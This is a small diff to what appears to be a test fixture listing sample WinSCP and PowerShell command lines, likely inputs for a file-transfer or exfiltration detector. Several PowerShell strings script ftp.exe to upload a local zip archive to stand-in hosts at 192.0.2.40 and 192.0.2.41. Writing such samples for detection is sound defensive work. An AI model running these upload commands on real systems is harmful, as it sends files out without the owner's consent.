@@ -21,6 +21,7 @@ WINSCP = [
     b"\1bob@192.0.2.1 -P 2222 -pw s3cret -b f",
     b"\2-oPort=2222 -b f bob@h:/in\n-put \"a b\" c\nreget d\n!ls\nlcd /t\nmput *.log\nquit\n",
     b"\4-P 2222 a.txt bob@192.0.2.1:/in/",
+]
 POWERSHELLS = [
     "$s=@\"\nopen 192.0.2.40\nbob\npw\nput C:\\t\\d.zip\nquit\n\"@\n$s|Out-File -Encoding ASCII $env:TEMP\\c.txt; ftp.exe -i -s:$env:TEMP\\c.txt\n",
     "$h='192.0.2.41'\nforeach ($l in \"open $h\",'user bob pw','bye') { Add-Content -Path f.txt -Value $l }\n& ftp -n \"-s:f.txt\"\n",
